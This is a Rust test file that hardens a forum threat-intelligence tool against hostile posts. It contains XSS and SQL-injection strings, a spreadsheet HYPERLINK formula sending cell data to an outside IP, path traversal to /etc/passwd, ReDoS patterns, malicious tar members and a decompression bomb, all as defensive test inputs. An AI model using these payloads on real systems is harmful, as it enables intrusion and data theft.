//! Posts written by attackers, from import to everything that leaves the program.
#![allow(clippy::unwrap_used)]

mod program;

use program::{Serving, encoded, everything, lines, run, stderr, well};
use serde_json::{Value, json};
use std::io::Write;
use std::path::Path;
use std::process::Command;

const SCRIPT: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'`{{7*7}}${7*7}";
const SQL: &str = "'; DROP TABLE post; DELETE FROM fact; -- \" OR \"\"=\"";
const BIDI: &str = "\u{202e}gnp.exe\u{202c} z\u{200b}e\u{200d}r\u{feff}o \u{2066}x\u{2069}";
const FORMULA: &str = "=HYPERLINK(\"http://203.0.113.9/\"&A1,\"click\")";

fn write(folder: &Path, name: &str, bytes: impl AsRef<[u8]>) -> String {
    let path = folder.join(name);
    std::fs::write(&path, bytes).unwrap();
    path.to_str().unwrap().to_owned()
}

/// A post with the same trick in each of its fields.
fn everywhere(id: usize, trick: &str) -> Value {
    json!({"id": format!("{trick}{id}"), "forum": trick, "board": trick, "thread": trick, "title": trick, "author": trick,
        "time": "2025-06-01T10:00:00Z", "text": format!("{trick} Selling fresh logs 203.0.113.7, 10$, telegram @{id}_demo_shop"),
        "reply_to": trick, "quotes": [trick], "url": format!("javascript:{trick}")})
}

#[test]
fn tricks_in_every_field_stay_text_everywhere() {
    let folder = tempfile::tempdir().unwrap();
    let store = folder.path().join("s.db");
    let tricks = [SCRIPT, SQL, BIDI, FORMULA, "../../../etc/passwd", "%s%n{0}\\x00\\", "\u{1b}[31mred\u{7}"];
    let text: String = tricks.iter().enumerate().map(|(i, t)| format!("{}\n", everywhere(i, t))).collect();
    well(&store, &["import", &write(folder.path(), "p.jsonl", text)]);
    well(&store, &["analyze"]);
    let rows = lines(&everything(&store)[0]);
    assert_eq!(rows.len(), tricks.len());
    // Control characters are no words; all else is what it was.
    for trick in [SCRIPT, SQL, FORMULA] {
        let row = rows.iter().find(|r| r["author"] == trick).unwrap_or_else(|| panic!("{trick} is lost"));
        assert!(row["text"].as_str().unwrap().starts_with(trick), "{row}");
        assert_eq!((&row["forum"], &row["title"]), (&json!(trick), &json!(trick)));
    }
    for table in ["csv", "jsonl"] {
        for what in ["posts", "entities", "events", "threats", "actors"] {
            let out = well(&store, &["export", table, "--what", what]);
            // A spreadsheet takes a cell that begins so for a formula.
            let cells = out
                .split(['\n', ','])
                .filter(|c| table == "csv" && (c.starts_with('=') || c.starts_with("\"=")));
            assert_eq!(cells.count(), 0, "{what}");
        }
    }
    for format in ["stix", "misp"] {
        let out = well(&store, &["export", format]);
        assert!(serde_json::from_str::<Value>(&out).is_ok(), "{format}");
    }
    let html = well(&store, &["report"]);
    assert!(
        !html.contains("<script>alert") && !html.contains("<img src=x") && !html.contains("javascript:<"),
        "report"
    );
    let markdown = well(&store, &["report", "--format", "markdown"]);
    // A sign behind a backslash is shown and means nothing.
    let live = markdown.replace("\\<", "");
    assert!(!live.contains("<script") && !live.contains("<img"), "markdown");
    // A terminal gets no control characters from posts.
    for arguments in [&["threats"][..], &["actors"], &["search", "selling"]] {
        let shown = well(&store, arguments);
        assert!(!shown.contains('\u{1b}') && !shown.contains('\u{7}'), "{arguments:?}");
    }
    assert_eq!(
        lines(&well(&store, &["search", "--json", "zero"])).len(),
        1,
        "zero-width characters hide nothing"
    );
    let serving = Serving::start(&store, &[]);
    for path in
        ["/api/v1/overview", "/api/v1/threats", "/api/v1/actors", "/api/v1/entities", "/api/v1/sources"]
    {
        let (status, body) = serving.get(path).unwrap();
        assert!(status == 200 && serde_json::from_str::<Value>(&body).is_ok(), "{path}: {status}");
    }
    for trick in tricks {
        for parameter in ["q", "forum", "lang", "type", "sort", "family", "status"] {
            let path =
                format!("/api/v1/search?q=logs&{parameter}={}", encoded(trick)).replace("q=logs&q=", "q=");
            let (status, body) = serving.get(&path).unwrap();
            assert!(status < 500 && serde_json::from_str::<Value>(&body).is_ok(), "{path}: {status} {body}");
            let (status, _) =
                serving.get(&format!("/api/v1/threats?{parameter}={}", encoded(trick))).unwrap();
            assert!(status < 500, "{path}");
        }
        let (status, body) = serving.get(&format!("/{}", encoded(trick))).unwrap();
        assert!(status < 500 && !body.contains("root:"), "{trick}: {status}");
    }
    assert_eq!(serving.json(&format!("/api/v1/search?q={}", encoded("logs")))["total"], tricks.len());
    assert_eq!(serving.json("/api/v1/search?q=logs&offset=4294967295&limit=4294967295")["items"], json!([]));
    drop(serving);
    assert_eq!(lines(&everything(&store)[0]).len(), tricks.len(), "nothing was dropped");
}

#[test]
fn a_hundred_megabytes_on_one_line_cost_bounded_memory() {
    let folder = tempfile::tempdir().unwrap();
    let store = folder.path().join("s.db");
    let path = folder.path().join("big.jsonl");
    let mut file = std::fs::File::create(&path).unwrap();
    // Beyond the limit of a line, below it but larger than any person writes, and a post behind them.
    for (id, megabytes) in [(1, 100), (2, 2)] {
        write!(file, "{{\"id\":\"{id}\",\"forum\":\"f\",\"author\":\"u\",\"text\":\"").unwrap();
        let block = "selling logs 203.0.113.7 cvv ".repeat(1 << 10);
        for _ in 0..(megabytes << 20) / block.len() {
            file.write_all(block.as_bytes()).unwrap();
        }
        writeln!(file, "end{id}\"}}").unwrap();
    }
    writeln!(file, "{{\"id\":\"3\",\"forum\":\"f\",\"author\":\"u\",\"text\":\"a small one\"}}").unwrap();
    drop(file);
    let out = limited(&store, &["import", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("row 1: the line is longer than"), "{}", stderr(&out));
    let out = limited(&store, &["analyze", "--threads", "1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(lines(&well(&store, &["search", "--json", "end2"])).len(), 1);
    assert_eq!(lines(&well(&store, &["search", "--json", "small"])).len(), 1);
}

/// Runs the program with two gigabytes of address space.
fn limited(store: &Path, arguments: &[&str]) -> std::process::Output {
    Command::new("sh")
        .args([
            "-c",
            "ulimit -v 2097152; exec \"$0\" \"$@\"",
            env!("CARGO_BIN_EXE_threatminer"),
            "--quiet",
            "--store",
        ])
        .arg(store)
        .args(arguments)
        .output()
        .unwrap()
}

#[test]
fn nesting_bad_bytes_and_odd_values_are_set_aside_by_row() {
    let folder = tempfile::tempdir().unwrap();
    let store = folder.path().join("s.db");
    let mut bytes = Vec::new();
    bytes.extend(
        format!(
            "{{\"id\":\"1\",\"text\":\"a\",\"quotes\":{}{}}}\n",
            "[".repeat(100_000),
            "]".repeat(100_000)
        )
        .bytes(),
    );
    bytes.extend(format!("{}\n", "{\"text\":".repeat(100_000)).bytes());
    bytes.extend(b"{\"id\":\"3\",\"text\":\"bad \xff\xfe\xc0\xaf bytes\"}\n");
    bytes.extend(b"\xff\xff\xff\n\0\0\0\n");
    bytes.extend(b"{\"id\":\"6\",\"text\":\"lone \\ud800 surrogate\"}\n");
    bytes.extend(b"{\"id\":\"7\",\"text\":\"when\",\"time\":99999999999999999999}\n");
    bytes.extend(b"{\"id\":\"8\",\"text\":\"when\",\"time\":\"-99999-99-99\"}\n");
    bytes.extend(b"{\"id\":\"9\",\"text\":\"nul \\u0000 inside\"}\n");
    bytes.extend(
        format!(
            "{{\"id\":\"10\",\"text\":\"{}[quote]\",\"author\":\"{}\"}}\n",
            "[quote]".repeat(20_000),
            "x".repeat(1_000_000)
        )
        .bytes(),
    );
    bytes.extend(b"{\"id\":\"11\",\"text\":\"sound\"}\n");
    let out = run(&store, &["import", &write(folder.path(), "p.jsonl", bytes)]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("row 1:")
            && stderr(&out).contains("row 2:")
            && !stderr(&out).contains("panicked"),
        "{}",
        stderr(&out)
    );
    well(&store, &["analyze"]);
    assert_eq!(lines(&well(&store, &["search", "--json", "sound"])).len(), 1);
    let all = lines(&everything(&store)[0]);
    assert!(all.iter().any(|p| p["id"] == "11") && all.iter().any(|p| p["id"] == "3"), "{}", all.len());
}

#[test]
fn patterns_that_ruin_other_engines_take_no_time_here() {
    let folder = tempfile::tempdir().unwrap();
    let store = folder.path().join("s.db");
    // What backtracking engines choke on, and what makes searches within a text quadratic.
    let worst = [
        "a".repeat(300_000),
        "1.".repeat(150_000),
        "http://".repeat(40_000),
        "@".repeat(300_000),
        "(".repeat(300_000),
        "hxxp[.]".repeat(40_000),
        "0x".repeat(150_000),
        "-----BEGIN PGP".repeat(20_000),
        "\u{300}".repeat(100_000),
        "4111 ".repeat(60_000),
    ];
    let text: String = worst
        .iter()
        .enumerate()
        .map(|(i, t)| format!("{}\n", json!({"id": i.to_string(), "forum": "f", "text": t})))
        .collect();
    well(&store, &["import", &write(folder.path(), "p.jsonl", text)]);
    let mut child = program::command(
        &store,
        &[
            "entities",
            &write(
                folder.path(),
                "q.jsonl",
                worst.iter().map(|t| format!("{}\n", json!({"text": t}))).collect::<String>(),
            ),
        ],
    )
    .stdout(std::process::Stdio::null())
    .spawn()
    .unwrap();
    // A quadratic search in three hundred thousand characters would take hours; this only has to end.
    let ended = (0..3000).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(100));
        child.try_wait().unwrap().is_some()
    });
    let _ = child.kill();
    assert!(ended && child.wait().unwrap().success());
    for query in [
        "(a+)+$",
        "a{1000}{1000}",
        "((((((((((a*)*)*)*)*)*)*)*)*)*",
        "aaaaaaaaaa~2 aaaaaaaaab~2",
        "\"a b\"~50",
    ] {
        let out = run(&store, &["search", query]);
        assert!(
            matches!(out.status.code(), Some(0..=2)) && !stderr(&out).contains("panicked"),
            "{query}: {}",
            stderr(&out)
        );
    }
    let many = run(&store, &["search", &"(".repeat(3000)]);
    assert_eq!(many.status.code(), Some(2));
    let rules = write(
        folder.path(),
        "r.toml",
        "[[rule]]\ntype = \"ipv4\"\nname = \"x\"\npattern = '(((((a{1,999}){1,999}){1,999})'\nexamples = [\"a\"]\n",
    );
    let out = run(&store, &["rules", "check", &rules]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
}

/// One member of a tar file (ustar).
fn member(out: &mut Vec<u8>, name: &str, kind: u8, link: &str, data: &[u8]) {
    let mut head = [0u8; 512];
    head[..name.len()].copy_from_slice(name.as_bytes());
    head[100..108].copy_from_slice(b"0000644\0");
    head[124..136].copy_from_slice(format!("{:011o}\0", data.len()).as_bytes());
    head[136..148].copy_from_slice(b"00000000000\0");
    head[148..156].fill(b' ');
    head[156] = kind;
    head[157..157 + link.len()].copy_from_slice(link.as_bytes());
    head[257..265].copy_from_slice(b"ustar\x0000");
    let sum: u32 = head.iter().map(|b| u32::from(*b)).sum();
    head[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    out.extend_from_slice(&head);
    out.extend_from_slice(data);
    out.resize(out.len().next_multiple_of(512), 0);
}

#[test]
fn archives_write_nothing_and_do_not_explode() {
    let folder = tempfile::tempdir().unwrap();
    let inner = folder.path().join("inner");
    std::fs::create_dir(&inner).unwrap();
    let store = inner.join("s.db");
    let post =
        |id: &str| format!("{{\"id\":\"{id}\",\"forum\":\"f\",\"text\":\"from an archive\"}}\n").into_bytes();
    let mut tar = Vec::new();
    member(&mut tar, "../escaped.jsonl", b'0', "", &post("1"));
    member(&mut tar, "/tmp/../absolute.jsonl", b'0', "", &post("2"));
    member(&mut tar, "link.jsonl", b'2', "/etc/passwd", b"");
    member(&mut tar, "hard.jsonl", b'1', "../../etc/passwd", b"");
    member(&mut tar, "device", b'3', "", b"");
    member(&mut tar, "sound.jsonl", b'0', "", &post("3"));
    tar.resize(tar.len() + 1024, 0);
    let out = run(&store, &["import", &write(&inner, "a.tar", &tar)]);
    assert!(matches!(out.status.code(), Some(0..=1)), "{}", stderr(&out));
    let said = String::from_utf8_lossy(&out.stdout).into_owned() + &stderr(&out);
    assert!(!said.contains("root:"), "{said}");
    let rows = lines(&everything(&store)[0]);
    assert!(rows.iter().any(|r| r["id"] == "3"), "{rows:?}");
    assert!(rows.iter().all(|r| r["text"] == "from an archive"), "{rows:?}");
    let outside: Vec<_> = std::fs::read_dir(folder.path()).unwrap().map(|f| f.unwrap().file_name()).collect();
    assert_eq!(outside, ["inner"], "nothing is written outside");
    // A bomb: gigabytes of one character in some megabytes, once as a stream and once over again.
    let bomb = folder.path().join("bomb.jsonl.zst");
    let mut packer = zstd::Encoder::new(std::fs::File::create(&bomb).unwrap(), 1).unwrap();
    packer.write_all(b"{\"id\":\"b\",\"forum\":\"f\",\"text\":\"").unwrap();
    let block = vec![b'a'; 1 << 20];
    for _ in 0..3 << 10 {
        packer.write_all(&block).unwrap();
    }
    packer.finish().unwrap();
    let out = limited(&store, &["import", bomb.to_str().unwrap()]);
    assert!(matches!(out.status.code(), Some(1..=2)), "{}", stderr(&out));
    assert!(!stderr(&out).contains("panicked") && !stderr(&out).contains("memory"), "{}", stderr(&out));
    assert_eq!(lines(&everything(&store)[0]).len(), rows.len(), "what was known is still there");
}
